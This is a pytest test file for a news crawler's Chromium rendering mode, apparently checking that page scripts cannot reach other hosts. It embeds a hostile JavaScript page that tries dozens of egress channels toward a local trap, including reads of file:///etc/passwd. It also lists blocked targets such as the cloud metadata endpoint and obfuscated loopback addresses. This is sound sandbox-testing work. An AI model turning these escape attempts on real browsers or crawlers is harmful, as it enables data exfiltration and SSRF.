"""RENDER: pages that only scripts can show are read in a real Chromium; their scripts reach their site only."""

from __future__ import annotations

import asyncio
import ipaddress
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import replace
from importlib.util import find_spec
from pathlib import Path
from typing import Any

import pytest
import shell_site
from project import ROOT, scrapy_command
from scrapy import Request
from scrapy.http import HtmlResponse, TextResponse
from scrapy.settings import Settings
from scrapy.utils.test import get_crawler

from benchmarks.invented.site import Page, Site, redirect, text_page
from newsspider.crawl.request_context import RequestContext, context_of, set_context
from newsspider.render import addon as render
from newsspider.spiders.news import NewsSpider

pytestmark = pytest.mark.server

BROWSER = next(filter(None, map(shutil.which, render.BROWSERS)), None)
needs_package = pytest.mark.skipif(find_spec("scrapy_playwright") is None, reason="scrapy-playwright is not installed")
needs_browser = pytest.mark.skipif(
    BROWSER is None or find_spec("scrapy_playwright") is None,
    reason="no Chromium or no scrapy-playwright here: `make setup-render` installs them",
)
RENDER = ("-s", "RENDER=1", "-s", "RENDER_CONCURRENCY=4")
PATIENCE_S = 60
# Every way out of a page that a script has; the host and port are those of a server that no page may reach. They are
# tried when the page has loaded: a page that is led away before is never drawn, in any browser.
WAYS_OUT = """<div id="more"></div><script>
const there = 'http://HOST:PORT/', frame = (src) => {
  const made = document.createElement('iframe'); made.src = src; document.body.appendChild(made); return made; };
const link = (rel) => { const made = document.createElement('link'); made.rel = rel; made.href = there + rel;
  document.head.appendChild(made); };
const attempts = [
  () => fetch(there + 'fetch'), () => fetch(there + 'opaque', {mode: 'no-cors'}),
  () => fetch(there + 'post', {method: 'POST', mode: 'no-cors', body: 'x', keepalive: true}),
  () => fetch('/jump'), () => fetch('/away'), () => fetch('file:///etc/passwd'),
  () => { const asked = new XMLHttpRequest(); asked.open('GET', there + 'xhr'); asked.send(); },
  () => { new Image().src = there + 'image'; }, () => navigator.sendBeacon(there + 'beacon', 'x'),
  () => frame(there + 'frame'), () => frame('file:///etc/passwd'), () => frame('/jump'),
  () => frame('data:text/html,<script src="' + there + 'data"><' + '/script>'),
  () => { frame('').srcdoc = '<img src="' + there + 'srcdoc"><script src="' + there + 'inner"><' + '/script>'; },
  () => ['prefetch', 'preconnect', 'dns-prefetch', 'preload', 'stylesheet', 'icon', 'manifest'].forEach(link),
  () => { const rules = document.createElement('script'); rules.type = 'speculationrules';
    rules.textContent = JSON.stringify({prerender: [{source: 'list', urls: ['/jump']}]});
    document.head.appendChild(rules); },
  () => new WebSocket('ws://HOST:PORT/socket'), () => new EventSource(there + 'events'),
  () => new WebTransport('https://HOST:PORT/transport'), () => import(there + 'module.js'),
  () => new Worker(URL.createObjectURL(new Blob(['fetch("' + there + 'worker"); new WebSocket("ws://HOST:PORT/ws")']))),
  () => new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + there + 'shared")']))),
  () => navigator.serviceWorker.register('/js/app.js'),
  () => window.open(there + 'window'), () => window.open('file:///etc/passwd'),
  () => { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST:PORT'}]});
    peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)); },
  () => { const form = document.createElement('form'); form.action = there + 'form'; form.method = 'post';
    document.body.appendChild(form); form.submit(); },
  () => { const download = document.createElement('a'); download.href = there + 'download'; download.download = 'x';
    download.click(); },
  () => { location.href = there + 'location'; },
];
addEventListener('load', () => setTimeout(() => { for (const attempt of attempts) {
  try { Promise.resolve(attempt()).catch(() => 0); } catch (problem) { /* refused */ } } }, 300));
</script>"""


class Trap:
    """A port, TCP and UDP, that counts who comes."""

    def __init__(self) -> None:
        self.visits: list[bytes] = []
        self._tcp = socket.create_server(("0.0.0.0", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("0.0.0.0", self.port))
        for serve in (self._count_connections, self._count_packets):
            threading.Thread(target=serve, daemon=True).start()

    def _count_connections(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    self.visits.append(connection.recv(100))
                except OSError:
                    self.visits.append(b"")

    def _count_packets(self) -> None:
        while True:
            try:
                self.visits.append(b"udp " + self._udp.recvfrom(100)[0])
            except OSError:
                return

    def close(self) -> None:
        for opened in (self._tcp, self._udp):
            opened.close()


@pytest.fixture
def trap() -> Iterator[Trap]:
    opened = Trap()
    yield opened
    opened.close()


def hostile_site(trap: Trap, host: str = "127.0.0.1") -> Site:
    """Return the invented site with a front page whose scripts try to reach `trap`."""
    site = shell_site.build(WAYS_OUT.replace("HOST", host).replace("PORT", str(trap.port)))
    site.add("/jump", redirect(f"http://{host}:{trap.port}/redirected", 302))
    site.add("/away", redirect(f"//[::ffff:127.0.0.1]:{trap.port}/mapped", 307))
    return site


def texts(database: Any) -> dict[str, str]:
    """Return the stored texts by title; an article that is stored twice is an error."""
    documents = list(database.articles.find())
    found = {document["title"]: document["text"] for document in documents}
    assert len(found) == len(documents), "an article is stored twice"
    return found


# --- The whole crawl -------------------------------------------------------------------------------------------------


@needs_browser
def test_a_site_of_shells_is_crawled_whole_its_scripts_reach_nothing_else_and_a_replay_needs_no_browser(
    site_server: Any, run_scrapy: Any, mongo: Any, trap: Trap, tmp_path: Path
) -> None:
    site = hostile_site(trap)
    server = site_server(site)
    crawl, recording = ("crawl", "news", "-a", f"url={server.url('/')}"), str(tmp_path / "shazhou.warc.gz")
    done = run_scrapy(*crawl, *RENDER, "-s", f"RECORD={recording}")
    assert done.returncode == 0, done.stderr[-3000:]
    assert "Traceback" not in done.stderr
    assert texts(mongo) == {truth.title: truth.text for truth in site.articles}
    assert trap.visits == []
    asked = server.requests
    assert {asked[path] for path in asked if path not in ("/jump", "/away")} == {1}, "each page, each script once"
    assert not [path for path in asked if path.startswith(("/img/", "/css/", "/favicon"))]
    assert f"{len(site.articles) + 2} pages were rendered" in done.stderr
    first = {document["_id"]: without_clock(document) for document in mongo.articles.find()}
    assert {document["methods"]["rendered"] for document in first.values()} == {"chromium"}
    assert all(document["images"][0]["url"].endswith(".jpg") for document in first.values())
    server.stop()
    mongo.client.drop_database(mongo.name)
    done = run_scrapy(*crawl, "-s", "RENDER=1", "-s", "RENDER_BROWSER=/nowhere", "-s", f"REPLAY={recording}")
    assert done.returncode == 0, done.stderr[-3000:]
    assert {document["_id"]: without_clock(document) for document in mongo.articles.find()} == first


def without_clock(document: dict[str, Any]) -> dict[str, Any]:
    told = ("title", "text", "body_html", "source", "editor", "published_at", "images", "methods", "content_hash")
    return {name: document[name] for name in told}


@needs_browser
def test_the_ways_out_lead_somewhere_where_nothing_stands_before_them(site_server: Any, trap: Trap) -> None:
    """The proof that the test above tests something: a browser of its own reaches the trap from the same page."""
    server = site_server(hostile_site(trap))
    command = [str(BROWSER), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"]
    subprocess.run(
        [*command, "--virtual-time-budget=3000", "--dump-dom", server.url("/")],
        capture_output=True,
        timeout=PATIENCE_S,
        check=False,
    )
    assert len(trap.visits) >= 10


@needs_browser
def test_the_browser_has_no_network_even_without_the_gate(trap: Trap) -> None:
    from playwright.async_api import async_playwright

    sites = [hostile_site(trap, host) for host in ("127.0.0.1", "localhost", socket.gethostname())]

    async def attempt() -> None:
        async with async_playwright() as playwright:
            browser = await playwright.chromium.launch(**render.launch_options(str(BROWSER)))
            for site in sites:
                page = await browser.new_page()
                await page.set_content(site.pages[(shell_site.HOST, "/")].body.decode(), wait_until="commit")
            await asyncio.sleep(1.5)
            await browser.close()

    asyncio.run(attempt())
    assert trap.visits == []


# --- Kills, and pages that fail --------------------------------------------------------------------------------------


@needs_browser
def test_shells_are_named_without_render_and_what_a_kill_leaves_is_rendered_by_the_next_run(
    site_server: Any, run_scrapy: Any, start_scrapy: Any, mongo: Any
) -> None:
    site = shell_site.build()
    server = site_server(site)
    article = server.url(site.articles[0].url)
    done = run_scrapy("crawl", "news", "-a", f"url={server.url('/')},{article}")
    assert done.returncode == 0, done.stderr[-3000:]
    assert "2 pages show nothing without their scripts (RENDER=1 runs them)" in done.stderr
    assert article in done.stderr
    assert mongo.articles.count_documents({}) == 0
    assert {page["reason"] for page in mongo.pages.find()} == {"shell"}
    arguments = ("crawl", "news", "-a", f"url={server.url('/')}", *RENDER)
    process = start_scrapy(*arguments)
    wait_for(lambda: bool(texts(mongo)) or process.poll() is not None)
    process.kill()
    process.wait()
    assert 0 < len(texts(mongo)) < len(site.articles)
    assert mongo.pages.count_documents({"state": "queued"}) > 0
    done = run_scrapy(*arguments)
    assert done.returncode == 0, done.stderr[-3000:]
    assert sorted(texts(mongo)) == sorted(truth.title for truth in site.articles)
    assert mongo.revisions.count_documents({}) == 0
    assert mongo.pages.count_documents({"state": "queued"}) == 0
    assert mongo.pages.find_one({"kind": "seed"}).get("etag") is None, "a frame that never changes hides what does"


def wait_for(condition: Callable[[], bool]) -> None:
    deadline = time.monotonic() + PATIENCE_S
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.02)


@needs_browser
def test_pages_that_harm_or_may_not_be_drawn_fail_alone(site_server: Any, run_scrapy: Any, mongo: Any) -> None:
    """Under the hosts' own names, through a proxy."""
    site = shell_site.build()
    data = site.pages[(shell_site.HOST, shell_site.place(site.articles[0].url.partition(shell_site.HOST)[2]))]
    shared = Page(data.body, headers={**data.headers, "access-control-allow-origin": "*"})
    site.add("/robots.txt", text_page("User-agent: *\nDisallow: /private/\n", "text/plain"))
    pages = {
        "drawn": (shell_site.drawn_from(site.add("/shared.json", shared, "open.data.example")), "done"),
        "unshared": (shell_site.drawn_from(site.add("/unshared.json", data, "shut.data.example")), "failed"),
        "forbidden": (shell_site.drawn_from(site.add("/private/own.json", data)), "failed"),
        "endless": (shell_site.frame("<script>setTimeout(() => { for (;;) ; }, 300)</script>"), "failed"),
        "large": (shell_site.frame(more="<script>document.body.innerText='字'.repeat(1e6)</script>"), "failed"),
    }
    for name, (page, _) in pages.items():
        site.add(f"/a/2024-04/{name}.html", page)
    server = site_server(site)
    urls = ",".join(site.url(f"/a/2024-04/{name}.html") for name in pages)
    limits = ("-s", "RENDER_TIMEOUT_S=3", "-s", "DOWNLOAD_MAXSIZE=500000")
    fast = ("-s", "DOWNLOAD_DELAY=0", "-s", "AUTOTHROTTLE_ENABLED=0")
    environment = {"http_proxy": server.proxy_url}
    done = run_scrapy("crawl", "news", "-a", f"url={urls}", *RENDER, *limits, *fast, env=environment)
    assert "Traceback" not in done.stderr
    assert "5 pages were rendered, 2 failed" in done.stderr
    assert done.stderr.count("its scripts ran and showed nothing") == 2
    assert list(texts(mongo)) == [site.articles[0].title]
    assert "/private/own.json" not in server.requests
    states = {page["url"].rpartition("/")[2]: page["state"] for page in mongo.pages.find()}
    assert states == {f"{name}.html": state for name, (_, state) in pages.items()}


@pytest.mark.parametrize(
    ("settings", "asked", "stats"),
    [
        ({"RENDER": True}, [True, True], {"failures/render": 2}),
        ({"RENDER": True, "RENDER_MAX_PAGES": 1}, [True, False], {"render/postponed": 1}),
        ({"RENDER": True, "REPLAY": "fixtures"}, [False, False], {"pages/shell": 4}),
        ({"RENDER": False}, [False, False], {"pages/shell": 4}),
    ],
)
def test_shells_are_asked_for_again_once_and_within_the_budget(
    settings: dict[str, Any], asked: list[bool], stats: dict[str, int]
) -> None:
    crawler = get_crawler(NewsSpider, settings_dict={"RENDER_MAX_PAGES": 500, **settings})
    crawler._apply_settings()
    crawler.spider = crawler._create_spider(url=f"http://{shell_site.HOST}/")
    found = []
    for number in range(2):
        url = f"http://{shell_site.HOST}/a/2024-04/{number}.html"
        # without a browser an empty frame is asked for once more: this is the second answer
        context = RequestContext(kind="article", key=url, attempt=0 if asked[0] else 1)
        request = Request(url)
        set_context(request, context)
        response = HtmlResponse(url, body=shell_site.frame().body, request=request)
        requests = list(crawler.spider.parse(response))
        found.append(bool(requests))
        assert all(context_of(r) == replace(context, is_shell=True) for r in requests)
        assert all(r.meta["render_shell"] is response for r in requests)
        drawn = response.replace(headers={"X-Rendered-By": "chromium"})
        assert list(crawler.spider.parse(drawn)) == [], "what stays a shell is not rendered twice"
    assert found == asked
    assert {name: crawler.stats.get_value(name) for name in stats} == stats


# --- The gate, rule by rule ------------------------------------------------------------------------------------------


def gate_of(url: str, address: str) -> Any:
    """Return the gate of a page at `url` that was answered by `address`; its host was typed."""
    from newsspider.render.gate import PageGate
    from newsspider.render.script_cache import ScriptCache

    crawler = get_crawler(settings_dict={"RENDER_MAX_REQUESTS": 5, "RENDER_TIMEOUT_S": 1})
    shell = TextResponse(url, body=b"<html></html>", ip_address=ipaddress.ip_address(address))
    return PageGate(crawler, shell, None, ScriptCache())


PUBLIC = ("http://www.shazhou-app.example/a/1.html", "93.184.216.34")
PRIVATE = ("http://127.0.0.1:8000/a/1.html", "127.0.0.1")


@needs_package
@pytest.mark.parametrize(
    ("page", "url", "method", "is_allowed"),
    [
        (PUBLIC, "http://8.8.8.8/d.json", "GET", True),
        (PUBLIC, "http://127.0.0.1/", "GET", False),
        (PUBLIC, "http://127.1:8000/", "GET", False),
        (PUBLIC, "http://0x7f.1/", "GET", False),
        (PUBLIC, "http://[::1]/", "GET", False),
        (PUBLIC, "http://[::ffff:10.0.0.1]/", "GET", False),
        (PUBLIC, "http://169.254.169.254/latest/meta-data/", "GET", False),
        (PUBLIC, "http://localhost:27017/", "GET", False),
        (PUBLIC, "file:///etc/passwd", "GET", False),
        (PUBLIC, "ftp://8.8.8.8/", "GET", False),
        (PUBLIC, "http://8.8.8.8:99999/", "GET", False),
        (PUBLIC, "http://8.8.8.8/", "POST", False),
        (PRIVATE, "http://127.0.0.1:8000/d.json", "GET", True),
        (PRIVATE, "http://127.0.0.1:8000/d.json", "POST", True),
        (PRIVATE, "http://127.0.0.1:27017/", "GET", False),
        (PRIVATE, "http://127.0.0.2:8000/", "GET", False),
        (PRIVATE, "http://127.0.0.1/", "GET", False),
        (PRIVATE, "http://8.8.8.8/d.json", "GET", True),
    ],
)
def test_scripts_are_held_to_the_rules_of_links_and_to_their_own_port(
    page: tuple[str, str], url: str, method: str, is_allowed: bool
) -> None:
    from newsspider.downloadermiddlewares.refusals import RefusedError

    gate = gate_of(*page)
    if is_allowed:
        asyncio.run(gate._check(url, method))
    else:
        with pytest.raises(RefusedError):
            asyncio.run(gate._check(url, method))


# --- What RENDER needs -----------------------------------------------------------------------------------------------


def test_render_without_a_browser_is_one_line_and_exit_code_2(run_scrapy: Any) -> None:
    done = run_scrapy(
        "crawl", "news", "-a", "url=http://127.0.0.1:9/", *RENDER, "-s", "RENDER_BROWSER=/nowhere/chromium"
    )
    assert done.returncode == 2
    assert len(done.stderr.strip().splitlines()) == 1
    assert "RENDER" in done.stderr


def test_render_without_its_package_is_one_line_and_exit_code_2(run_scrapy: Any, tmp_path: Path) -> None:
    (tmp_path / "scrapy_playwright.py").write_text("# no package\n", "utf-8")
    done = run_scrapy(
        *("crawl", "news", "-a", "url=http://127.0.0.1:9/", *RENDER), env={"PYTHONPATH": f"{tmp_path}:{ROOT}"}
    )
    assert done.returncode == 2
    assert len(done.stderr.strip().splitlines()) == 1
    assert "pip install -r requirements-render.txt" in done.stderr


def test_without_render_nothing_of_it_is_loaded(run_scrapy: Any) -> None:
    program = (
        "import sys; from scrapy.utils.project import get_project_settings; from scrapy.crawler import Crawler;"
        "from newsspider.spiders.news import NewsSpider; crawler = Crawler(NewsSpider, get_project_settings());"
        "print([name for name in sys.modules if 'playwright' in name or 'render_' in name],"
        "dict(crawler.settings['DOWNLOAD_HANDLERS']))"
    )
    done = subprocess.run([scrapy_command()[0], "-c", program], cwd=ROOT, capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[] {}"


def test_a_browser_is_looked_up_by_setting_then_by_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    program = tmp_path / "google-chrome"
    program.write_text("#!/bin/sh\n", "utf-8")
    program.chmod(0o755)
    monkeypatch.setenv("PATH", str(tmp_path))
    assert render.browser_path(Settings()) == str(program)
    assert render.browser_path(Settings({"RENDER_BROWSER": "/nowhere/chromium"})) is None
